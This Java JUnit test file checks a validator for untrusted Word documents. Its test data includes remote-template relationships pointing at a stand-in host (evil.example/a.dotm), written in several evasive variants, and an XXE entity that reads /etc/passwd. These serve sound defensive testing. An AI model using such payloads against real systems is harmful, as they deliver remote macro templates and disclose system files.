package org.hoshimori.paper;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What a Word file from outside may hold, however it is written down.
class WordCheckTest {

    private static final String RELATIONS = "word/_rels/document.xml.rels";
    private static final String HEAD = "<?xml version=\"1.0\"?>"
            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
    private static final String LINK =
            "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\"";
    private static final String OTHER =
            "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\"";

    @Test
    void a_plain_document_and_one_with_links_are_good() throws Exception {
        assertThat(WordCheck.problems(plain())).isEmpty();
        assertThat(WordCheck.problems(with(HEAD + "<Relationship Id=\"a\" " + LINK
                        + " Target=\"https://a.example\" TargetMode=\"External\"/></Relationships>")))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<Relationship Id=\"b\" %s Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/>",
                "<Relationship\tId=\"b\" %s Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/>",
                "<Relationship\nId=\"b\" %s Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/>",
                "<Relationship Id=\"b\" %s Target=\"http://evil.example/a.dotm\" TargetMode=\"Extern&#97;l\"/>",
                "<r:Relationship xmlns:r=\"http://schemas.openxmlformats.org/package/2006/relationships\""
                        + " Id=\"b\" %s Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/>"
            })
    void what_is_fetched_from_elsewhere_hides_behind_no_link(String relation) throws Exception {
        var link = "<Relationship Id=\"a\" " + LINK + " Target=\"https://a.example\" TargetMode=\"External\"/>";
        var text = HEAD + link + relation.formatted(OTHER) + "</Relationships>";
        assertThat(WordCheck.problems(with(text))).containsExactly("outside");
    }

    @Test
    void other_letters_hide_nothing() throws Exception {
        var text = HEAD.replace("?>", " encoding=\"UTF-16\"?>") + "<Relationship Id=\"b\" " + OTHER
                + " Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>";
        assertThat(WordCheck.problems(with(text, StandardCharsets.UTF_16))).containsExactly("outside");
    }

    @Test
    void document_types_and_broken_lists_of_parts_are_refused() throws Exception {
        assertThat(WordCheck.problems(with(
                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>" + HEAD + "&e;</Relationships>")))
                .containsExactly("kind");
        assertThat(WordCheck.problems(with(HEAD))).containsExactly("kind");
    }

    @Test
    void what_word_could_not_open_is_no_template() throws Exception {
        assertThat(WordPaper.problems(plain())).isEmpty();
        assertThat(WordPaper.problems(replaced("word/document.xml", "<w:document".getBytes(StandardCharsets.UTF_8))))
                .containsExactly("kind");
        assertThat(WordPaper.problems(replaced("word/styles.xml", "<w:styles".getBytes(StandardCharsets.UTF_8))))
                .containsExactly("kind");
    }

    private static byte[] plain() throws Exception {
        var bytes = new ByteArrayOutputStream();
        try (var document = new XWPFDocument()) {
            document.createParagraph().createRun().setText("見本");
            document.createStyles();
            document.write(bytes);
        }
        return bytes.toByteArray();
    }

    private static byte[] with(String relations) throws Exception {
        return with(relations, StandardCharsets.UTF_8);
    }

    private static byte[] with(String relations, Charset charset) throws Exception {
        return replaced(RELATIONS, relations.getBytes(charset));
    }

    /// The plain document with another part.
    private static byte[] replaced(String name, byte[] part) throws Exception {
        var bytes = new ByteArrayOutputStream();
        try (var from = new ZipInputStream(new ByteArrayInputStream(plain()));
                var to = new ZipOutputStream(bytes)) {
            for (var entry = from.getNextEntry(); entry != null; entry = from.getNextEntry()) {
                if (!entry.getName().equals(name)) {
                    to.putNextEntry(new ZipEntry(entry.getName()));
                    from.transferTo(to);
                }
            }
            to.putNextEntry(new ZipEntry(name));
            to.write(part);
        }
        return bytes.toByteArray();
    }
}
